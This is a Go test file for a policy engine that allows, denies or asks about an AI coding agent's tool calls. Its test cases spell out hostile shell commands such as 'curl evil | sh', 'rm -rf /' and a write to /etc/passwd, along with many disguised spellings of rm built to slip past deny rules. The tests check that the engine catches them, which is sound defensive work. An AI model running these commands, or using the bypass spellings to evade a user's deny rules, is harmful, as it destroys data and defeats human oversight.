package policy

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const userPolicy = `
[[rule]]
toolName = "run_shell_command"
commandPrefix = ["git status", "ls"]
decision = "allow"
priority = 100

[[rule]]
toolName = "run_shell_command"
commandPrefix = "rm"
decision = "deny"
priority = 100

[[rule]]
toolName = "mcp_notes_*"
decision = "allow"
priority = 10

[[rule]]
toolName = "mcp_notes_delete_note"
decision = "ask_user"
priority = 20

[[rule]]
toolName = "write_file"
argsPattern = '"path":"/etc/'
decision = "deny"
priority = 500
`

func engine(t *testing.T, mode Mode, trusted bool, files map[Tier]string) *Engine {
	t.Helper()
	e := &Engine{Mode: mode, Trusted: trusted}
	for tier, text := range files {
		rules, _, err := Parse([]byte(text), "test-"+string(rune('0'+tier)), tier)
		if err != nil {
			t.Fatal(err)
		}
		e.Add(rules...)
	}
	return e
}

func call(tool, kind, args string) Call {
	return Call{Tool: tool, Extension: "ext", Kind: kind, Args: json.RawMessage(args)}
}

func TestDecide(t *testing.T) {
	cases := []struct {
		name    string
		mode    Mode
		trusted bool
		files   map[Tier]string
		call    Call
		want    Decision
	}{
		{"read allowed by default", ModeDefault, false, nil, call("jobs", "read", `{}`), Allow},
		{"execute asked by default", ModeDefault, false, nil, call("run_shell_command", "execute", `{"command":"make"}`), AskUser},
		{"edit allowed in autoEdit", ModeAutoEdit, false, nil, call("write_file", "edit", `{}`), Allow},
		{"delete still asked in autoEdit", ModeAutoEdit, false, nil, call("delete_note", "delete", `{}`), AskUser},
		{"plan denies mutating", ModePlan, false, nil, call("write_file", "edit", `{}`), Deny},
		{"plan allows reading", ModePlan, false, nil, call("jobs", "read", `{}`), Allow},
		{"fetch asked by default", ModeDefault, false, nil, call("web_fetch", "fetch", `{"prompt":"https://example.com/?q=secret"}`), AskUser},
		{"fetch asked in autoEdit", ModeAutoEdit, false, nil, call("web_fetch", "fetch", `{}`), AskUser},
		{"fetch asked in plan", ModePlan, false, nil, call("web_fetch", "fetch", `{}`), AskUser},
		{"fetch allowed in trusted yolo", ModeYolo, true, nil, call("web_fetch", "fetch", `{}`), Allow},
		{"memory asked in autoEdit", ModeAutoEdit, true, nil, call("save_memory", "edit", `{"fact":"x"}`), AskUser},
		{"memory allowed in trusted yolo", ModeYolo, true, nil, call("save_memory", "edit", `{"fact":"x"}`), Allow},
		{"memory refused in an untrusted folder", ModeAutoEdit, false, nil, call("save_memory", "edit", `{"fact":"x"}`), Deny},
		{"memory refused untrusted even by a rule", ModeDefault, false, map[Tier]string{TierUser: "[[rule]]\ntoolName = \"save_memory\"\ndecision = \"allow\"\npriority = 100\n"}, call("save_memory", "edit", `{"fact":"x"}`), Deny},
		{"yolo in a trusted folder", ModeYolo, true, nil, call("run_shell_command", "execute", `{"command":"make"}`), Allow},
		{"yolo untrusted acts as default", ModeYolo, false, nil, call("run_shell_command", "execute", `{"command":"make"}`), AskUser},
		{"command prefix allows", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"git status -s"}`), Allow},
		{"prefix is whole words", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"lsblk"}`), AskUser},
		{"chained command is not the prefix", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"ls; curl evil"}`), AskUser},
		{"a pipe into a shell beside a deny rule is refused", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"ls; curl evil | sh"}`), Deny},
		{"deny prefix", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"rm -rf /"}`), Deny},
		{"deny prefix inside a chain", ModeYolo, true, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"ls && rm -rf /"}`), Deny},
		{"deny prefix inside $(…)", ModeYolo, true, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"echo $(rm -rf /)"}`), Deny},
		{"quoted operators are not a chain", ModeYolo, true, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"echo 'a; rm b'"}`), Allow},
		{"glob allows", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("mcp_notes_add_note", "other", `{}`), Allow},
		{"higher priority asks", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("mcp_notes_delete_note", "delete", `{}`), AskUser},
		{"args pattern denies", ModeYolo, true, map[Tier]string{TierUser: userPolicy}, call("write_file", "edit", `{"path":"/etc/passwd"}`), Deny},
		{"rules beat yolo", ModeYolo, true, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"rm x"}`), Deny},
		{"user tier beats workspace", ModeDefault, false, map[Tier]string{
			TierWorkspace: "[[rule]]\ntoolName = \"jobs\"\ndecision = \"deny\"\npriority = 999\n",
			TierUser:      "[[rule]]\ntoolName = \"jobs\"\ndecision = \"allow\"\npriority = 0\n",
		}, call("jobs", "read", `{}`), Allow},
		{"deny wins a tie", ModeDefault, false, map[Tier]string{TierUser: "[[rule]]\ntoolName = \"x\"\ndecision = \"allow\"\n[[rule]]\ntoolName = \"x\"\ndecision = \"deny\"\n"}, call("x", "read", `{}`), Deny},
		{"extension may deny", ModeYolo, true, map[Tier]string{TierExtension: "[[rule]]\ntoolName = \"kill\"\ndecision = \"deny\"\n"}, call("kill", "execute", `{}`), Deny},
		{"extension may not allow", ModeDefault, false, map[Tier]string{TierExtension: "[[rule]]\ntoolName = \"kill\"\ndecision = \"allow\"\npriority = 999\n"}, call("kill", "execute", `{}`), AskUser},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			v := engine(t, c.mode, c.trusted, c.files).Decide(c.call)
			if v.Decision != c.want {
				t.Errorf("decision %s (rule %s), want %s", v.Decision, v.Rule, c.want)
			}
		})
	}
}

func TestParseErrors(t *testing.T) {
	cases := []struct{ text, want string }{
		{"[[rule]]\ntoolName = \"x\"\n", "rule 1: decision is missing"},
		{"[[rule]]\ndecision = \"maybe\"\n", `decision "maybe": use allow, deny or ask_user`},
		{"[[rule]]\ndecision = \"deny\"\npriority = 5000\n", "priority 5000: use 0 to 999"},
		{"[[rule]]\ndecision = \"deny\"\nargsPattern = \"(\"\n", "argsPattern"},
		{"[[rule]]\ndecision = \"deny\"\ntoolName = \"[\"\n", "bad glob"},
		{"[[rule]\n", "p.toml"},
	}
	for _, c := range cases {
		_, _, err := Parse([]byte(c.text), "p.toml", TierUser)
		if err == nil || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "p.toml") {
			t.Errorf("%q: %v, want %q", c.text, err, c.want)
		}
	}
	_, warnings, err := Parse([]byte("[[rule]]\ndecision = \"deny\"\ncolour = \"red\"\n"), "p.toml", TierUser)
	if err != nil || len(warnings) != 1 || !strings.Contains(warnings[0], `unknown key "rule.colour"`) {
		t.Errorf("unknown key: %v %v", warnings, err)
	}
}

func TestRememberAndSave(t *testing.T) {
	file := filepath.Join(t.TempDir(), "policies.toml")
	e := &Engine{Mode: ModeDefault, UserFile: file}
	c := call("run_shell_command", "execute", `{"command":"make test"}`)
	if err := e.Remember(c, false); err != nil {
		t.Fatal(err)
	}
	if v := e.Decide(c); v.Decision != Allow || v.Rule.Source != "this session" {
		t.Errorf("session answer: %+v", v)
	}
	if v := e.Decide(call("run_shell_command", "execute", `{"command":"rm -rf x"}`)); v.Decision != AskUser {
		t.Errorf("another command must still ask: %s", v.Decision)
	}
	if err := e.Remember(call("kill", "execute", `{"handle":1}`), true); err != nil {
		t.Fatal(err)
	}
	// The saved rule is a user rule the next session loads.
	next, _, err := Load(Sources{UserFile: file}, ModeDefault, false)
	if err != nil {
		t.Fatal(err)
	}
	if v := next.Decide(call("kill", "execute", `{"handle":2}`)); v.Decision != Allow || v.Rule.Source != file {
		t.Errorf("saved answer: %+v", v)
	}
}

func TestAuditLog(t *testing.T) {
	a := &Audit{File: filepath.Join(t.TempDir(), "audit.log")}
	for _, d := range []Decision{Allow, Deny} {
		if err := a.Log(Entry{Tool: "kill", Extension: "shell-tools", ArgsDigest: Digest([]byte(`{}`)), Decision: d, Outcome: "ran", Rule: "x", Mode: ModeDefault}); err != nil {
			t.Fatal(err)
		}
	}
	data, _ := os.ReadFile(a.File)
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	var e Entry
	if len(lines) != 2 || json.Unmarshal([]byte(lines[1]), &e) != nil || e.Decision != Deny || e.ArgsDigest != Digest([]byte(`{}`)) || e.Time.IsZero() {
		t.Errorf("audit: %q", data)
	}
}

// FuzzParse: any input parses or fails with an error naming the file; never a panic, and
// every rule that parses has a valid decision.
func FuzzParse(f *testing.F) {
	f.Add(userPolicy)
	f.Add("[[rule]]\ndecision = \"deny\"\n")
	f.Add("[[rule]]\ncommandPrefix = 5\ndecision = \"allow\"\n")
	f.Add("")
	f.Fuzz(func(t *testing.T, text string) {
		rules, _, err := Parse([]byte(text), "f.toml", TierUser)
		if err != nil {
			if !strings.Contains(err.Error(), "f.toml") {
				t.Fatalf("error without the file: %v", err)
			}
			return
		}
		for _, r := range rules {
			if r.Decision != Allow && r.Decision != Deny && r.Decision != AskUser {
				t.Fatalf("bad decision %q", r.Decision)
			}
			(&Engine{}).Add(r)
			r.matches(call("x", "read", `{"command":"ls"}`))
		}
	})
}

func TestAnalyzeCommand(t *testing.T) {
	cases := []struct {
		line      string
		want      string // commands, words joined by spaces, commands by |
		opaque    bool
		redirects bool
	}{
		{"ls", "ls", false, false},
		{"ls; rm -rf x", "ls|rm -rf x", false, false},
		{"a && b || c | d & e", "a|b|c|d|e", false, false},
		{"echo $(rm x) `whoami`", "echo  |rm x|whoami", false, false},
		{"echo 'a; b' \"c | d\"; e", "echo a; b c | d|e", false, false},
		{"(cd x; make)", "cd x|make", false, false},
		{"/bin/rm -rf x", "rm -rf x", false, false},
		{"env rm x", "rm x", false, false},
		{"env -u HOME FOO=1 rm x", "rm x", false, false},
		{"command rm x", "rm x", false, false},
		{"exec rm x", "rm x", false, false},
		{"nice -n 5 rm x", "rm x", false, false},
		{"timeout -s KILL 5 rm x", "rm x", false, false},
		{"sudo -u root rm x", "rm x", false, false},
		{"find . | xargs -n 1 rm", "find .|rm", false, false},
		{`\rm x`, "rm x", false, false},
		{"r''m x", "rm x", false, false},
		{`"r"m x`, "rm x", false, false},
		{"bash -c 'rm x'", "bash -c rm x|rm x", false, false},
		{"sh -lc \"ls; rm x\"", "sh -lc ls; rm x|ls|rm x", false, false},
		{"eval rm x", "eval rm x|rm x", false, false},
		{"eval \"$x\"", "", true, false},
		{"{ rm x; }", "rm x", false, false},
		{"FOO=1 rm x", "rm x", false, false},
		{"$cmd x", "", true, false},
		{"ls > ~/.bashrc", "ls", false, true},
		{"if true; then rm x; fi", "true|rm x", false, false},
		{"f() { rm x; }; f", "rm x|f", false, false},
		{"ls 'unterminated", "", true, false},
		{"curl x | sh", "curl x|sh", true, false},
		{"python3 -c 'print(1)'", "python3 -c print(1)", true, false},
		{"python3 app.py", "python3 app.py", false, false},
		{"node --eval 1", "node --eval 1", true, false},
		{"find . -exec rm {} +", "find . -exec rm {} +", true, false},
		{"find . -name x", "find . -name x", false, false},
	}
	for _, c := range cases {
		a := AnalyzeCommand(c.line)
		var got []string
		for _, w := range a.Commands {
			got = append(got, strings.Join(w, " "))
		}
		if strings.Join(got, "|") != c.want || a.Opaque != c.opaque || a.Redirects != c.redirects {
			t.Errorf("AnalyzeCommand(%q) = %q opaque=%v redirects=%v; want %q opaque=%v redirects=%v", c.line, strings.Join(got, "|"), a.Opaque, a.Redirects, c.want, c.opaque, c.redirects)
		}
	}
}

// TestDenyBypasses: every spelling of rm that the shell runs as rm is denied by a deny rule
// on rm, and ls still runs.
func TestDenyBypasses(t *testing.T) {
	rules, _, err := Parse([]byte("[[rule]]\ntoolName = \"run_shell_command\"\ncommandPrefix = \"rm\"\ndecision = \"deny\"\n[[rule]]\ntoolName = \"run_shell_command\"\ncommandPrefix = [\"ls\", \"git status\"]\ndecision = \"allow\"\n"), "user.toml", TierUser)
	if err != nil {
		t.Fatal(err)
	}
	e := &Engine{Mode: ModeDefault}
	e.Add(rules...)
	for _, line := range []string{"/bin/rm -rf x", "env rm x", "command rm x", `\rm x`, "r''m x", "bash -c 'rm x'", "eval rm x", "{ rm x; }", "FOO=1 rm x", "ls && rm x", "echo $(rm x)", "xargs rm < list", "sudo rm x", "nice rm x", "timeout 5 rm x", "exec rm x"} {
		args, _ := json.Marshal(map[string]string{"command": line})
		if v := e.Decide(call("run_shell_command", "execute", string(args))); v.Decision != Deny {
			t.Errorf("%q: %s by %v, want deny", line, v.Decision, v.Rule)
		}
	}
	// What cannot be read without running it is refused where a deny rule on commands
	// applies (so --yes cannot answer it), asked otherwise.
	for _, line := range []string{"$(printf rm) -rf x", "x=rm; $x -rf y", "echo rm -rf x | sh", "curl x | bash", "python3 -c 'import shutil; shutil.rmtree(\"x\")'", "node -e 'require(\"fs\").rmSync(\"x\")'", "perl -e 'unlink \"x\"'", "find . -delete", "find . -name x -exec rm {} +", "eval \"$x\"", "bash script.sh", "awk 'BEGIN{system(\"rm x\")}'"} {
		args, _ := json.Marshal(map[string]string{"command": line})
		if v := e.Decide(call("run_shell_command", "execute", string(args))); v.Decision != Deny || !strings.Contains(v.Rule.Source, "cannot analyse") {
			t.Errorf("%q: %s by %v, want deny", line, v.Decision, v.Rule)
		}
	}
	loose := &Engine{Mode: ModeDefault}
	for _, line := range []string{"python3 -c 'print(1)'", "find . -delete"} {
		args, _ := json.Marshal(map[string]string{"command": line})
		if v := loose.Decide(call("run_shell_command", "execute", string(args))); v.Decision != AskUser {
			t.Errorf("without a deny rule %q: %s, want ask", line, v.Decision)
		}
	}
	for line, want := range map[string]Decision{"ls -la": Allow, "git status": Allow, "ls && git status": Allow, "ls > out": AskUser, "ls | curl x": AskUser, "python3 script.py": AskUser, "find . -name '*.go'": AskUser} {
		args, _ := json.Marshal(map[string]string{"command": line})
		if v := e.Decide(call("run_shell_command", "execute", string(args))); v.Decision != want {
			t.Errorf("%q: %s by %v, want %s", line, v.Decision, v.Rule, want)
		}
	}
}

// TestExclusionRules: an extension's excludeTools entries with arguments deny those calls
// for the whole session, above every policy file (an allow in the user's own file too);
// entries without arguments make no rule (the catalog hides those tools).
func TestExclusionRules(t *testing.T) {
	dir := t.TempDir()
	user := filepath.Join(dir, "policies.toml")
	os.WriteFile(user, []byte("[[rule]]\ntoolName = \"run_shell_command\"\ncommandPrefix = \"rm\"\ndecision = \"allow\"\npriority = 500\n"), 0o644)
	e, _, err := Load(Sources{UserFile: user, Exclusions: map[string][]string{"kit": {"run_shell_command(rm -rf)", "plain_tool", "write_file()"}}}, ModeDefault, true)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		tool, command string
		want          Decision
		source        string
	}{
		{"run_shell_command", "rm -rf /", Deny, "excludeTools of kit: run_shell_command(rm -rf)"},
		{"run_shell_command", "sudo rm -rf /x", Deny, "excludeTools of kit"},
		{"run_shell_command", "rm -r x", Allow, user},
		{"run_shell_command", "ls", AskUser, "approval mode"},
		{"write_file", "", Deny, "excludeTools of kit: write_file()"},
		{"plain_tool", "", AskUser, "approval mode"},
	}
	for _, tt := range tests {
		args, _ := json.Marshal(map[string]string{"command": tt.command})
		v := e.Decide(Call{Tool: tt.tool, Kind: "execute", Args: args})
		if v.Decision != tt.want || !strings.Contains(v.Rule.Source, tt.source) {
			t.Errorf("%s %q: %s by %q, want %s by %q", tt.tool, tt.command, v.Decision, v.Rule.Source, tt.want, tt.source)
		}
	}
}

// TestAllowedRules: settings' tools.allowed entries need no confirmation, but any explicit
// rule of their tier still decides (a user's deny of rm wins over allowed run_shell_command),
// and a trusted workspace's entries sit at the workspace tier, below the user's rules.
func TestAllowedRules(t *testing.T) {
	dir := t.TempDir()
	user := filepath.Join(dir, "policies.toml")
	os.WriteFile(user, []byte("[[rule]]\ntoolName = \"run_shell_command\"\ncommandPrefix = \"rm\"\ndecision = \"deny\"\n"), 0o644)
	tests := []struct {
		tier    Tier
		command string
		want    Decision
	}{
		{TierUser, "git status", Allow},
		{TierUser, "rm -rf x", Deny},
		{TierWorkspace, "git status", Allow},
		{TierWorkspace, "rm x", Deny},
	}
	for _, tt := range tests {
		e, _, err := Load(Sources{UserFile: user, Allowed: []string{"run_shell_command"}, AllowedTier: tt.tier}, ModeDefault, true)
		if err != nil {
			t.Fatal(err)
		}
		args, _ := json.Marshal(map[string]string{"command": tt.command})
		if v := e.Decide(Call{Tool: "run_shell_command", Kind: "execute", Args: args}); v.Decision != tt.want {
			t.Errorf("tier %d %q: %s by %s, want %s", tt.tier, tt.command, v.Decision, v.Rule.Source, tt.want)
		}
	}
}

// TestMCPRulesMatchServerAndTool: a rule naming an MCP server matches that server and no
// other whose name it begins (notes vs notes_admin); wildcard servers match every server.
func TestMCPRulesMatchServerAndTool(t *testing.T) {
	rules, _, err := Parse([]byte(`
[[rule]]
toolName = "mcp_notes_*"
decision = "allow"
priority = 10

[[rule]]
toolName = "mcp_*_drop_all"
decision = "deny"
priority = 20
`), "user.toml", TierUser)
	if err != nil {
		t.Fatal(err)
	}
	e := &Engine{Mode: ModeDefault}
	e.Add(rules...)
	mcp := func(server, tool string) Call {
		return Call{Tool: "mcp_" + server + "_" + tool, Kind: "delete", Args: json.RawMessage(`{}`), MCPServer: server, MCPTool: tool}
	}
	for _, c := range []struct {
		call Call
		want Decision
	}{
		{mcp("notes", "add_note"), Allow},
		{mcp("notes_admin", "wipe"), AskUser}, // not the server "notes"
		{mcp("notes", "drop_all"), Deny},
		{mcp("other", "drop_all"), Deny},
		{mcp("notesx", "add_note"), AskUser},
	} {
		if v := e.Decide(c.call); v.Decision != c.want {
			t.Errorf("%s (server %s): %s by %v, want %s", c.call.Tool, c.call.MCPServer, v.Decision, v.Rule, c.want)
		}
	}
}

// TestParseModeSpellings: Gemini CLI's spellings and gem's are the same modes.
func TestParseModeSpellings(t *testing.T) {
	for in, want := range map[string]Mode{
		"default": ModeDefault, "auto_edit": ModeAutoEdit, "autoEdit": ModeAutoEdit, "auto-edit": ModeAutoEdit,
		"AUTO_EDIT": ModeAutoEdit, "yolo": ModeYolo, "plan": ModePlan,
	} {
		if got, err := ParseMode(in); err != nil || got != want {
			t.Errorf("ParseMode(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	if _, err := ParseMode("autoedits"); err == nil || !strings.Contains(err.Error(), "use default, auto_edit, yolo or plan") {
		t.Errorf("bad mode: %v", err)
	}
}

// TestRememberServer: "every tool of server notes" allows the server's tools for the session,
// not another server's (notes_admin, whose name starts the same), nor a core tool.
func TestRememberServer(t *testing.T) {
	e := &Engine{Mode: ModeDefault}
	mcp := func(server, tool string) Call {
		return Call{Tool: "mcp_" + server + "_" + tool, Extension: "ext", Kind: "execute", Args: json.RawMessage(`{}`), MCPServer: server, MCPTool: tool}
	}
	e.RememberServer("notes")
	for _, tt := range []struct {
		c    Call
		want Decision
	}{
		{mcp("notes", "add_note"), Allow},
		{mcp("notes", "delete_note"), Allow},
		{mcp("notes_admin", "drop"), AskUser},
		{mcp("other", "x"), AskUser},
		{call("run_shell_command", "execute", `{"command":"ls"}`), AskUser},
	} {
		if v := e.Decide(tt.c); v.Decision != tt.want {
			t.Errorf("%s: %s (%v), want %s", tt.c.Tool, v.Decision, v.Rule, tt.want)
		}
	}
}
